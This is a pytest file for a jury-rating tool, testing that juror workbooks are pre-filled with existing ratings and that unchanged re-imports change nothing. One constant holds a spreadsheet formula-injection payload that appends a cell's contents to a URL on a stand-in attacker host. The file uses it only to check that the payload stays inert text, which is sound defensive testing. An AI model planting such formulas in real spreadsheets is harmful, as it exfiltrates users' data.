"""A workbook sent again carries what the juror already rated (isgrid.jury.prefill).

``isgrid sheets`` pre-fills each juror's workbook with their ratings (level labels as
the drop-downs list them, a half point as a number, NE), comments, « à transmettre »
marks, overall opinions and amounts; importing the unchanged workbooks changes nothing,
with or without ``--replace``, on every shipped example and in every layout.  Before,
the workbooks were always blank: their import was refused (``ratings-exist``; on
lfse-2024, whose ratings files are one per table, ``duplicate-rating``) and, with
``--replace``, rewrote every ratings file with no rating.

A déport's ratings are never pre-filled (the workbook leaves the dossier out) and are
kept in the juror's file when a corrected workbook is imported.  ``--blank`` writes empty
workbooks, as before.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from isgrid.call.load import load_call
from isgrid.cli import cli
from isgrid.errors import CallError
from isgrid.jury.importer import import_sheets
from isgrid.jury.sheets import write_sheets
from testpaths import EXAMPLES

EXAMPLE_NAMES = ("alsace-2016", "alterincub-2019", "lfse-2024", "picardie-sieg-2015")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def _copy(tmp_path: Path, name: str) -> Path:
    call = tmp_path / name
    shutil.copytree(EXAMPLES / name, call)
    return call


def _given_files(call: Path) -> dict[str, bytes]:
    return {p.relative_to(call).as_posix(): p.read_bytes()
            for d in ("ratings", "opinions") if (call / d).is_dir()
            for p in sorted((call / d).rglob("*")) if p.is_file()}


def _write(call: Path, out: Path, fmt: str = "xlsx", layout: str = "rows",
           blank: bool = False) -> list[Path]:
    options = {"blank": True} if blank else {}
    return write_sheets(load_call(call), out, fmt=fmt, layout=layout, **options).written


@pytest.mark.parametrize("name", EXAMPLE_NAMES)
@pytest.mark.parametrize(("fmt", "layout"), [("xlsx", "rows"), ("xlsx", "per-dossier"),
                                             ("csv", "rows")])
@pytest.mark.parametrize("replace", [False, True])
def test_unchanged_workbooks_change_nothing(tmp_path: Path, name: str, fmt: str,
                                           layout: str, replace: bool) -> None:
    call = _copy(tmp_path, name)
    before = _given_files(call)
    assert any(k.startswith("ratings/") for k in before)
    files = _write(call, tmp_path / "out", fmt, layout)
    report = import_sheets(load_call(call), files, replace=replace)
    assert report.written == [] and report.kept == []
    # every ratings file the jurors' rows are in, once, left as it was
    assert sorted(p.relative_to(call).as_posix() for p in report.unchanged) == sorted(
        k for k in before if k.startswith("ratings/"))
    assert _given_files(call) == before  # byte for byte, no dated copy


def _notation(path: Path) -> dict[tuple[str, str], dict[str, object]]:
    """(dossier, row kind) -> criterion id or header -> cell value, of a ``rows`` workbook."""
    ws = openpyxl.load_workbook(path)["Notation"]
    heads = [str(c.value).split(" — ")[0] for c in ws[1]]
    return {(str(row[0]), str(row[3])): dict(zip(heads[4:], row[4:], strict=True))
            for row in ws.iter_rows(min_row=2, values_only=True)}


def test_workbook_shows_labels_half_points_and_comments(tmp_path: Path) -> None:
    call = _copy(tmp_path, "alsace-2016")
    _write(call, tmp_path / "out")
    rows = _notation(tmp_path / "out" / "j3.xlsx")
    # ratings/j3.csv: AL16-01 AV-1.1 "3,5" (a half point: no label), ALS-2 3, AV-4.2 4 on
    # the note04 scale (3 = Bon, 4 = Très bon)
    note = rows[("AL16-01", "note")]
    assert (note["AV-1.1"], note["ALS-2"], note["AV-4.2"]) == (3.5, "Bon", "Très bon")
    assert rows[("AL16-01", "commentaire")]["AV-1.1"] == (
        "Besoin réel, diagnostic un peu daté (demi-point).")
    assert rows[("AL16-01", "commentaire")]["ALS-2"] is None
    # i1 rates the eliminatory criteria (ouinon): « oui »
    assert _notation(tmp_path / "out" / "i1.xlsx")[("AL16-01", "note")]["ALS-E1"] == "oui"


def test_opinions_amounts_and_marks_are_prefilled(tmp_path: Path) -> None:
    call = _copy(tmp_path, "alsace-2016")
    (call / "opinions").mkdir()
    (call / "opinions" / "j1.csv").write_text(
        "dossier,assessor,opinion,amount,comment\n"
        "AL16-02,j1,réservé,12000,Budget à revoir.\n", encoding="utf-8")
    text = (call / "ratings" / "j1.csv").read_text(encoding="utf-8").splitlines()
    text[0] += ",shareable"
    text[1:] = [line + (",oui" if i == 0 else ",") for i, line in enumerate(text[1:])]
    (call / "ratings" / "j1.csv").write_text("\n".join(text) + "\n", encoding="utf-8")
    before = _given_files(call)
    files = _write(call, tmp_path / "out")
    rows = _notation(tmp_path / "out" / "j1.xlsx")
    opinion, amount = "Avis global", "Montant proposé (€)"
    assert (rows[("AL16-02", "note")][opinion], rows[("AL16-02", "note")][amount]) == (
        "réservé", 12000)
    assert rows[("AL16-02", "commentaire")][opinion] == "Budget à revoir."
    # the first row of j1.csv (AL16-01 AV-1.1, commented) is marked oui
    assert rows[("AL16-01", "à transmettre")]["AV-1.1"] == "oui"
    assert rows[("AL16-01", "à transmettre")]["ALS-2"] is None
    report = import_sheets(load_call(call), [tmp_path / "out" / "j1.xlsx"])
    assert report.written == []
    assert _given_files(call) == before
    per = _write(call, tmp_path / "per", layout="per-dossier")
    assert import_sheets(load_call(call), per, replace=True).written == []
    assert files


def test_a_deport_is_never_prefilled_and_its_rows_are_kept(tmp_path: Path) -> None:
    call = _copy(tmp_path, "alsace-2016")
    _write(call, tmp_path / "out")
    path = tmp_path / "out" / "j2.xlsx"
    assert "AL16-01" not in {d for d, _ in _notation(path)}  # j2 is déporté from AL16-01
    wb = openpyxl.load_workbook(path)
    ws = wb["Notation"]
    col = next(c.column for c in ws[1] if str(c.value).startswith("AV-1.1 "))
    row = next(r for r in range(2, ws.max_row + 1)
               if (ws.cell(r, 1).value, ws.cell(r, 4).value) == ("AL16-02", "note"))
    assert ws.cell(row, col).value == "Bon"  # ratings/j2.csv: AL16-02,j2,AV-1.1,3
    ws.cell(row, col).value = "Moyen"
    wb.save(path)
    with pytest.raises(CallError):  # a change still needs --replace
        import_sheets(load_call(call), [path])
    report = import_sheets(load_call(call), [path], replace=True)
    assert report.written == [call / "ratings" / "j2.csv"]
    lines = (call / "ratings" / "j2.csv").read_text(encoding="utf-8").splitlines()
    assert "AL16-02,j2,AV-1.1,2," in lines
    # the déport's rows, never in the workbook, are still in the juror's file
    assert "AL16-01,j2,AV-1.1,4,Noté avant la déclaration du déport." in lines
    assert sum(line.startswith("AL16-01,") for line in lines) == 7


def test_a_hostile_comment_stays_text(tmp_path: Path) -> None:
    call = _copy(tmp_path, "alsace-2016")
    path = call / "ratings" / "j1.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    quoted = '"' + EVIL.replace('"', '""') + '"'
    lines[2] = lines[2].rstrip(",") + "," + quoted  # AL16-01,j1,ALS-2,3,<formula>
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    before = _given_files(call)
    _write(call, tmp_path / "out")
    ws = openpyxl.load_workbook(tmp_path / "out" / "j1.xlsx")["Notation"]
    col = next(c.column for c in ws[1] if str(c.value).startswith("ALS-2 "))
    cell = ws.cell(3, col)  # AL16-01's commentaire row
    assert (ws.cell(3, 1).value, ws.cell(3, 4).value) == ("AL16-01", "commentaire")
    assert cell.data_type == "s" and cell.value == EVIL  # a typed text, never a formula
    report = import_sheets(load_call(call), [tmp_path / "out" / "j1.xlsx"], replace=True)
    assert report.written == [] and _given_files(call) == before


def test_blank_writes_empty_workbooks(tmp_path: Path) -> None:
    call = _copy(tmp_path, "alsace-2016")
    res = CliRunner().invoke(cli, ["sheets", str(call), "-o", str(tmp_path / "out"),
                                   "--blank"])
    assert res.exit_code == 0, res.output
    rows = _notation(tmp_path / "out" / "j3.xlsx")
    values = [v for cells in rows.values() for v in cells.values()]
    # j3's 7 dossiers, 3 rows each; 7 criteria, the opinion and the amount
    assert len(values) == 7 * 3 * 9
    assert all(v is None for v in values)
    res = CliRunner().invoke(cli, ["sheets", "import", str(call),
                                   str(tmp_path / "out" / "j3.xlsx")])
    assert res.exit_code == 2 and "ratings-exist" in res.output
